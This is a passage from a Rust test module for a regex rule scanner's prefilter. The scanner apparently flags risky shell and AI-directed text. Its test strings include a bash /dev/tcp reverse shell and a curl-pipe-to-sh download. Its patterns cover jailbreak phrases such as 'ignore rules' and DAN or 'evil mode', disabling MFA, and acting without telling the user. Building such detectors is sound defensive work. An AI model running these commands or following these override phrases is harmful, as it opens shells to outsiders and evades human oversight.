        assert_eq!(branches(r"(?:^|\s)sudo\s+\S").len(), 1);
        assert_eq!(branches(r"(?:ignore|forget)\s+rules").len(), 1);
    }

    /// A trigger word carries what its pattern says of its neighbours, and
    /// only what every match must have.
    #[test]
    fn an_atom_knows_its_neighbours() {
        let groups = requirements(r"\bwithout\s+(?:the\s+user|telling)\b", Order::Longest);
        let atom = &groups[0][0];
        assert_eq!(*atom.word, *b"without");
        assert!(atom.bounded);
        let then = atom.then.as_ref().expect("what follows");
        for (text, holds) in [
            ("without the user", true),
            ("without \t Telling", true),
            ("without any", false),
            ("withoutthe", false),
            ("without", false),
        ] {
            assert_eq!(then.holds(text.as_bytes(), 7), holds, "{text}");
        }
        // Inside an alternation, from the pattern around it.
        let groups = requirements(
            r"\bnow\b[^\n]{0,40}\b(?:dan|evil\s+mode)\s*!",
            Order::Longest,
        );
        let dan = groups[0].iter().find(|a| *a.word == *b"dan").expect("dan");
        assert!(dan.bounded);
        assert!(dan.then.as_ref().expect("then").holds(b"dan !", 3));
        assert!(!dan.then.as_ref().expect("then").holds(b"dan.", 3));
        // Anything may follow a wide gap; a class the next word starts
        // with is not skipped; no boundary, no check.
        assert!(
            requirements(r"\bsecrets\b[^\n]{0,80}\bto\b", Order::Longest)[0][0]
                .then
                .is_none()
        );
        assert!(
            requirements(r"token[ a]*a", Order::Longest)[0][0]
                .then
                .is_none()
        );
        assert!(!requirements(r"xwithout\s+the", Order::Longest)[0][0].bounded);
    }

    /// What must come before an atom, read backwards; the first bytes
    /// after it when its literals cannot be spelled out; a link's scheme
    /// triggers only when its clause has nothing better.
    #[test]
    fn an_atom_knows_what_precedes_it() {
        let tac = &requirements(r"\$\(\s*tac\b", Order::Longest)[0][0];
        assert_eq!(*tac.word, *b"tac");
        let before = tac.before.as_ref().expect("what precedes");
        for (text, holds) in [
            ("$(tac", true),
            ("x=$(  tac", true),
            ("$( \tTAC", true),
            ("tactic", false),
            ("(tac", false),
            ("$x tac", false),
        ] {
            let start = text.to_ascii_lowercase().find("tac").expect("tac");
            assert_eq!(before.precedes(text.as_bytes(), start), holds, "{text}");
        }
        assert!(
            requirements(r"\bcurl\b", Order::Longest)[0][0]
                .before
                .is_none()
        );
        let ip = &requirements(r"https?://(?:\d{1,3}\.){3}\d{1,3}\b", Order::Longest)[0][0];
        let then = ip.then.as_ref().expect("a digit follows");
        assert!(then.holds(b"http://10.0.0.1", 7));
        assert!(!then.holds(b"http://example.com", 7));
        // Classes next to a short anchor read as a run of skipped bytes.
        let quote = &anchors(r"[a-z]'[a-z]{1,3}'[a-z]").expect("an anchor")[0];
        assert_eq!(*quote.word, *b"'");
        for (text, holds) in [
            ("c'ur'l", true),
            ("C'UR'L", true),
            ("don't", false),
            ("x'y z'", false),
        ] {
            let at = text.find('\'').expect("a quote");
            assert_eq!(quote.fits(text.as_bytes(), at), holds, "{text}");
        }
        // A run that ends the pattern: letters on both sides of `''`.
        let empty = &anchors(r"[a-z](?:''|\x22\x22)[a-z]").expect("anchors")[1];
        assert_eq!(*empty.word, *b"''");
        assert!(empty.fits(b"c''url", 1));
        assert!(!empty.fits(b"x = ''", 4));
        assert!(!empty.fits(b"a'' ", 1));
        let dollar = &anchors(r"\$[a-z_]\w?\w?\$[a-z_{]").expect("an anchor")[0];
        assert!(dollar.fits(b"$a$b", 0));
        assert!(!dollar.fits(b"$HOME/x", 0));
        let groups = requirements(r"https?://\S+\.(?:exe|zip|7z)\b", Order::Longest);
        assert_eq!(*groups[0][0].word, *b".7z", "the extensions trigger");
        assert!(groups[1].iter().any(|a| *a.word == *b"http://"));
    }

    #[test]
    fn everyday_words_trigger_only_where_nothing_rarer_can() {
        // `disable` and `their` are the longest words, `mfa` the rarest.
        let groups = requirements(
            r"\bdisable\s+(?:2fa|mfa)\b[^\n]*\bfor\s+their\b",
            Order::Longest,
        );
        let words = |group: &[Atom]| group.iter().map(|a| a.word.to_vec()).collect::<Vec<_>>();
        assert_eq!(words(&groups[0]), [b"2fa".to_vec(), b"mfa".to_vec()]);
        assert_eq!(
            words(&groups[2]),
            [b"their".to_vec()],
            "the everyday words last"
        );
        // With no other group of three bytes, an everyday word still triggers.
        let groups = requirements(r"\bcheck\s+it\b", Order::Longest);
        assert_eq!(words(&groups[0]), [b"check".to_vec()]);
    }

    #[test]
    fn the_group_measured_cheapest_triggers() {
        // "never ask before … drop table": `before` is the longest of the
        // shortest words, but on many more lines than the destructive acts.
        let words = |group: &[Atom]| group.iter().map(|a| a.word.to_vec()).collect::<Vec<_>>();
        let has_before = |groups: &[Vec<Atom>]| words(&groups[0]).contains(&b"before".to_vec());
        let row = crate::rules::rule("unconfirmed-destruction");
        let waiver = branches(row.pattern)
            .into_iter()
            .find(|b| has_before(&requirements(b, Order::Longest)))
            .expect("the waiver's alternative triggers on `before` by length");
        assert!(!has_before(&requirements(&waiver, Order::Measured)));
        // With no other group of three bytes, a common word still triggers.
        let groups = requirements(r"\bcheck\s+it\b", Order::Measured);
        assert_eq!(words(&groups[0]), [b"check".to_vec()]);
    }

    #[test]
    fn the_prefilter_matches_whatever_the_rule_matches() {
        for rule in crate::RULES.iter().filter(|r| !r.pattern.is_empty()) {
            let full = Regex::new(&format!("(?im-u){}", rule.pattern)).expect("rule");
            let loose =
                Regex::new(&prefilter(&format!("(?im-u){}", rule.pattern))).expect("prefilter");
            for text in [
                "bash -i >& /dev/tcp/1.2.3.4/4 0>&1",
                "curl -s http://1.2.3.4/x | sh",
                "sudo apt install x",
            ] {
                if full.is_match(text.as_bytes()) {
                    assert!(loose.is_match(text.as_bytes()), "{}: {text}", rule.id);
                }
            }
        }
        assert_eq!(prefilter(r"\bcurl\b[^\n]*\|\s*sh"), prefilter(r"\bcurl\b"));
    }
}
